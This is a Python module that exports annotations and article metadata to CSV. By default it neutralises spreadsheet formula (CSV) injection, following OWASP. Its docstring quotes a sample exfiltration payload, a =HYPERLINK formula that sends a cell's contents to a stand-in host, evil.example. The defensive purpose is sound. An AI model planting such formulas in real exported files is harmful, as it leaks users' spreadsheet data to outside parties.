"""One CSV row per annotation, every field and its article's metadata, for spreadsheets,
scripts and statistics (the identities let rows from two libraries be matched).

Spreadsheet-safe by default (CSV or formula injection): a quote such as
``=HYPERLINK("https://evil.example/?"&A1,"Klik")`` would run as a formula when the file
is opened in Excel, LibreOffice or Google Sheets. Following the OWASP rule
(https://owasp.org/www-community/attacks/CSV_Injection), every cell that starts with
``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return (0x0D) is prefixed with a
single quote ``'``, which spreadsheets read as "this cell is text"; the csv module quotes
cells holding ``,`` or ``"`` (doubling ``"``). ``spreadsheet_safe=False`` (the CLI's
``--raw``) keeps the values exactly as stored, for scripts that need them.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Protocol

if TYPE_CHECKING:
    class CsvArticle(Protocol):
        """What the CSV writes of an article (``models.Article``, or the plain row a CSV
        export reads: ``library.exporting.TableArticle``)."""

        @property
        def id(self) -> int: ...
        @property
        def title(self) -> str: ...
        @property
        def source(self) -> str: ...
        @property
        def authors(self) -> str: ...
        @property
        def published(self) -> str: ...
        @property
        def published_partial(self) -> str: ...
        @property
        def published_inferred(self) -> bool: ...
        @property
        def url(self) -> str: ...
        @property
        def language(self) -> str: ...
        @property
        def uuid(self) -> str: ...

    class CsvNote(Protocol):
        """What the CSV writes of an annotation (``models.Annotation``, or
        ``library.exporting.TableNote``)."""

        @property
        def id(self) -> int: ...
        @property
        def kind(self) -> str: ...
        @property
        def exact(self) -> str: ...
        @property
        def speaker(self) -> str: ...
        @property
        def speaker_written(self) -> str: ...
        @property
        def tags(self) -> list[str]: ...
        @property
        def verdict(self) -> str: ...
        @property
        def note(self) -> str: ...
        @property
        def start(self) -> int | None: ...
        @property
        def end(self) -> int | None: ...
        @property
        def prefix(self) -> str: ...
        @property
        def suffix(self) -> str: ...
        @property
        def anchor(self) -> str: ...
        @property
        def created_at(self) -> str: ...
        @property
        def updated_at(self) -> str: ...
        @property
        def coder(self) -> str: ...
        @property
        def uuid(self) -> str: ...

__all__ = ["CSV_COLUMNS", "export_csv"]

CSV_COLUMNS = (
    "article_id", "article_title", "source", "authors", "published", "published_partial",
    "published_inferred", "url",
    "annotation_id", "kind", "exact", "speaker", "speaker_written", "tags", "verdict", "note",
    "start", "end", "prefix", "suffix", "anchor", "created_at", "updated_at", "coder",
    "language", "article_uuid", "annotation_uuid",
)  # fmt: skip


#: a cell starting with one of these is a formula to a spreadsheet (CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """``value`` made inert for a spreadsheet: text that would start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_cell(value: object, spreadsheet_safe: bool = False) -> str:
    """One cell as ``csv.writer`` writes it (the excel dialect: minimal quoting): in double
    quotes, its own doubled, when it holds a comma, a double quote or a line end; None as
    nothing, a number as ``str`` gives it. ``spreadsheet_safe``: text starting a formula
    gets a ``'`` first (``spreadsheet_cell``). Four ``in`` tests per cell instead of
    ``csv.writer``'s look-up of each character among the line end's (a 100,000-row export
    has 30 million characters, issue 12)."""
    if not isinstance(value, str):
        value = "" if value is None else str(value)
    elif spreadsheet_safe and value.startswith(FORMULA_STARTS):
        value = "'" + value
    if '"' in value:
        return '"' + value.replace('"', '""') + '"'
    if "," in value or "\n" in value or "\r" in value:
        return '"' + value + '"'
    return value


def export_csv(items: Iterable[tuple[CsvArticle, Sequence[CsvNote]]], bom: bool = False,
               spreadsheet_safe: bool | None = True) -> str:
    """CSV text (RFC 4180, CRLF rows, as ``csv.writer`` writes it); write it with
    ``newline=""`` in UTF-8.

    ``bom`` starts the text with U+FEFF so Excel reads accented names right.
    ``spreadsheet_safe`` (on unless turned off) puts a ``'`` before text starting with
    ``= + - @``, a tab or a carriage return, so a quote such as ``=HYPERLINK(…)`` stays
    text instead of becoming a formula (``None`` means the default: on). Tags are joined
    with ``"; "``. ``speaker`` is the library's person (what filters and groups by);
    ``speaker_written``, beside it, how the quote's article writes that person's name when
    it writes it otherwise ("Sergei Lavrov" for the library's "Sergey Lavrov"), empty when
    it writes the library's name or it is not known (a quote stored before Kutip kept it).
    ``published_partial``: a date the article gives without a year (``--12-22``) when
    ``published`` is empty; ``published_inferred`` "true" when ``published``'s year was
    completed from the story (its weekday), not given (R13-8: Markdown said "[inferred]",
    a spreadsheet could not tell).
    """
    safe = spreadsheet_safe is None or spreadsheet_safe
    lines = [("\ufeff" if bom else "") + ",".join(CSV_COLUMNS)]
    for article, anns in items:
        for a in anns:
            row = (
                article.id, article.title, article.source, article.authors,
                article.published, article.published_partial,
                "true" if article.published_inferred else "", article.url,
                a.id, a.kind, a.exact, a.speaker, a.speaker_written if a.speaker else "",
                "; ".join(a.tags), a.verdict, a.note,
                a.start, a.end, a.prefix, a.suffix, a.anchor, a.created_at, a.updated_at,
                a.coder, article.language, article.uuid, a.uuid,
            )  # fmt: skip
            lines.append(",".join([csv_cell(v, safe) for v in row]))
    lines.append("")
    return "\r\n".join(lines)
